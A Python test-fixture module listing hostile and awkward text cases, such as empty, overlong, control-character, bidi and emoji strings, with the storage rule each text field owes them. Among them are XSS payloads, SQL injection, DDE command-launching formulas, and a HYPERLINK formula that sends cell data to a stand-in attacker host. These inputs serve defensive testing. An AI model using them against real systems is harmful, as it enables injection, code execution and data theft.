"""Hostile and awkward text, as named cases, and what every text field must do with each.

Every case says what a service owes it: `EXACT` text is stored as typed (the ends trimmed,
nothing else) and shown literally; `EMPTY` is refused where an answer is required and
stored as "" where it is optional; `TOO_LONG`, `CONTROL` and `BROKEN` are refused with a
message that says what to fix.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum


class Rule(Enum):
    """What a text field owes a case."""

    EXACT = "stored exactly"
    EMPTY = "nothing to store"
    TOO_LONG = "over every limit"
    CONTROL = "holds control characters"
    BROKEN = "cannot be written as UTF-8"


@dataclass(frozen=True)
class Case:
    """One piece of hostile or awkward text."""

    name: str
    text: str
    rule: Rule
    stored_as: str | None = None
    """What is stored when it is not simply the text trimmed."""

    @property
    def stored(self) -> str:
        """What an accepting field must read back: the text with its ends trimmed."""
        return self.stored_as if self.stored_as is not None else self.text.strip()


HUNDRED_THOUSAND = ("Lorem ipsum dolor sit amet, " * 4_000)[:99_999] + "."
assert len(HUNDRED_THOUSAND) == 100_000

CASES = [
    Case("empty", "", Rule.EMPTY),
    Case("whitespace", " \t\n \r\n\u00a0\u2003\u3000 ", Rule.EMPTY),
    Case("zero-width only", "\u200b\u200c\u200d\u2060\ufeff", Rule.EMPTY),
    Case("100,000 characters", HUNDRED_THOUSAND, Rule.TOO_LONG),
    Case("NUL byte", "before\x00after", Rule.CONTROL),
    Case("NUL alone", "\x00", Rule.CONTROL),
    Case("bell and escape", "ring\x07 \x1b[31mred\x1b[0m", Rule.CONTROL),
    Case("lone surrogate", "half an emoji \ud83d here", Rule.BROKEN),
    Case("padded", "  trimmed at both ends\t\n", Rule.EXACT),
    Case("lines", "first line\nsecond line\r\nthird\tcolumn", Rule.EXACT),
    Case("right-to-left", "مرحبا بالجميع — שלום לכולם", Rule.EXACT),
    Case("bidi marks", "\u200fשלום\u200e abc", Rule.EXACT),
    # Overrides and isolates reorder what shows ("gnp.exe" as "exe.png"): removed on arrival.
    Case(
        "bidi overrides",
        "\u200fשלום\u200e abc \u202eevil\u202c \u2067ltr\u2069 file\u202egnp.exe",
        Rule.EXACT,
        stored_as="\u200fשלום\u200e abc evil ltr filegnp.exe",
    ),
    Case(
        "zero-width inside",
        "pass\u200bword\ufeff and\u2060joined",
        Rule.EXACT,
        "password andjoined",
    ),
    Case(
        "emoji",
        "👮🏽\u200d♀️ meets 🧑\u200d🤝\u200d🧑 and 👨\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 ✊🏿",
        Rule.EXACT,
    ),
    Case(
        "combining marks",
        "cafe\u0301 is not café; Z\u0334\u0321a\u0337l\u0338g\u0335o\u0336",
        Rule.EXACT,
    ),
    Case("astral and CJK", "𝕳𝖊𝖑𝖑𝖔 𠜎 漢字 かな 한국어 ไทย देवनागरी", Rule.EXACT),
    Case("html", "<b>bold</b> <img src=x onerror=alert(1)> &amp; &lt;i&gt; <!-- c -->", Rule.EXACT),
    Case("script", "<script>alert('owned')</script>", Rule.EXACT),
    Case("markdown link", "[click here](javascript:alert(1)) <https://evil.example>", Rule.EXACT),
    Case("markdown image", "![pixel](https://evil.example/p.png?who=me)", Rule.EXACT),
    Case(
        "markdown syntax",
        "# Heading\n* bullet\n> quote\n`code` **bold** _it_ ~~gone~~ | a | b |",
        Rule.EXACT,
    ),
    Case("streamlit syntax", ":red[alarm] :material/home: $x^2$ $$\\int$$ :smile:", Rule.EXACT),
    Case("sql", "Robert'); DROP TABLE idea;-- 1' OR '1'='1", Rule.EXACT),
    Case("formula", '=HYPERLINK("https://evil.example/?x="&A1,"Click for details")', Rule.EXACT),
    Case("formula dde", "=cmd|' /C calc'!A0", Rule.EXACT),
    Case("formula plus", "+1+cmd|' /C calc'!A0", Rule.EXACT),
    Case("formula minus", "-2+3*cmd|' /C calc'!A0", Rule.EXACT),
    Case("formula at", "@SUM(1+1)*cmd|' /C calc'!A0", Rule.EXACT),
    Case("formula full-width", "＝1+1 ＋2 －3 ＠4", Rule.EXACT),
    Case("format strings", "{0} {name} %s %(x)s {{braces}} ${HOME} `ls`", Rule.EXACT),
    Case(
        "quotes and backslashes", "“smart” ‘single’ \"dumb\" 'apos' C:\\new\\table \\n", Rule.EXACT
    ),
]

BY_NAME = {case.name: case for case in CASES}


def case(name: str) -> Case:
    """The case called `name`."""
    return BY_NAME[name]


# Text that a spreadsheet would run as a formula, for the exports.
FORMULAS = [
    c.text for c in CASES if c.name.startswith("formula") and c.name != "formula full-width"
]
# Text that must come through a page literally, for the screens.
SHOWN = [
    case(n).text
    for n in ("html", "script", "markdown link", "markdown image", "streamlit syntax", "emoji")
]
